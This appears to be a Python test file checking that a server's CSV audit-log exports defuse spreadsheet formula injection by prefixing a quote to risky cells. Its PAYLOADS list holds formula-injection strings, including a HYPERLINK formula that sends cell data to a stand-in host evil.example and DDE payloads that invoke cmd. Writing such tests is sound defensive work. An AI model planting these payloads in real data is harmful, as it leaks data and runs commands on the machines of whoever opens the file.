"""Every CSV export defuses formula cells: text chosen by a user arrives in an auditor's spreadsheet.

The attack: an admin's suspend reason (or any text that reaches the audit log) starts with `=`, and
the auditor who opens the export in a spreadsheet runs it. The API export had no defence at all.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from server import csvsafe
from tests.e2e.site import Site, build_site

PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    built = build_site(Path(tmp_path_factory.mktemp("csv")))
    admin = built.client("admin")
    headers = {"X-Requested-With": "fetch"}
    for reason in PAYLOADS:
        started = admin.post("/api/v1/process-instances", json={"model": "purchase_invoice", "data": {}},
                             headers=headers)
        assert started.status_code == 201, started.text
        instance_id = started.get_json()["id"]
        assert admin.post(f"/api/v1/process-instances/{instance_id}/suspend", json={"reason": reason},
                          headers=headers).status_code == 200
    yield built
    built.host.db.dispose()


def _notes(text: str) -> list[str]:
    return [r["note"] for r in csv.DictReader(io.StringIO(text)) if r["action"] == "admin.suspended"]


def test_the_api_export_defuses_formula_cells(site: Site) -> None:
    response = site.client("audrey").get("/api/v1/audit/export?format=csv&action=admin.suspended")
    assert response.status_code == 200
    assert _notes(response.get_data(as_text=True)) == ["'" + p for p in PAYLOADS]


def test_the_audit_page_export_defuses_formula_cells(site: Site) -> None:
    response = site.client("audrey").get("/audit/export.csv?action=admin.suspended")
    assert response.status_code == 200
    assert _notes(response.get_data(as_text=True)) == ["'" + p for p in PAYLOADS]


def test_plain_numbers_and_ordinary_text_stay_as_they_are() -> None:
    assert [csvsafe.cell(v) for v in ("-12.50", "+31", "1e3", "Acme B.V.", "", 5, None)] == \
        ["-12.50", "+31", "1e3", "Acme B.V.", "", 5, None]
    assert [csvsafe.cell(v) for v in ("-1+1", "=1", "\t=1+1", "\r=1+1", "@A1")] == \
        ["'-1+1", "'=1", "'\t=1+1", "'\r=1+1", "'@A1"]
